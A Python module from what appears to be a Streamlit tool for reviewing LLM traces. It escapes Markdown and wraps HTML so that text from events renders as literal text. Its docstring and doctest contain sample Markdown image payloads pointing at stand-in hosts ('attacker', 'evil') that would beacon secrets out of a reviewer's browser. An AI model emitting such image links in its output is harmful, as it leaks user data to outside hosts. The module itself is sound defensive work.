"""Text from events (LLM output, app names, tag values, claims) shown safely. Pure.

Streamlit renders Markdown in st.markdown, st.caption, st.subheader, st.error and their kin, so an
LLM answer containing `![](https://attacker/?q=...)` would make the reviewer's browser fetch that
URL (a beacon, with whatever the URL carries) the moment a trace is opened. Everything that comes
from an event goes through `md()` (plain text inside Markdown) or `html_block()` (HTML that must
not be read as Markdown at all) before it is shown.
"""

from __future__ import annotations

import re
from typing import Any

__all__ = ["html_block", "md"]

# CommonMark's backslash-escapable ASCII punctuation (and $ for Streamlit's LaTeX).
_MARKDOWN = re.compile(r"([!\"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])")


def md(value: Any) -> str:
    """`value` as literal text inside Markdown: no links, images, emphasis or math.

    >>> md("![x](https://evil/?q=secret)")
    '\\\\!\\\\[x\\\\]\\\\(https\\\\:\\\\/\\\\/evil\\\\/\\\\?q\\\\=secret\\\\)'
    """
    return _MARKDOWN.sub(r"\\\1", str(value)).replace("\n", "  \n")


def html_block(inner_html: str) -> str:
    """`inner_html` (already escaped) as one HTML block: CommonMark reads a line that starts with
    <div> as raw HTML up to the next blank line, so no Markdown inside it is interpreted. Newlines
    become <br> so the block never ends early."""
    return "<div>" + inner_html.replace("\r", "").replace("\n", "<br>") + "</div>"
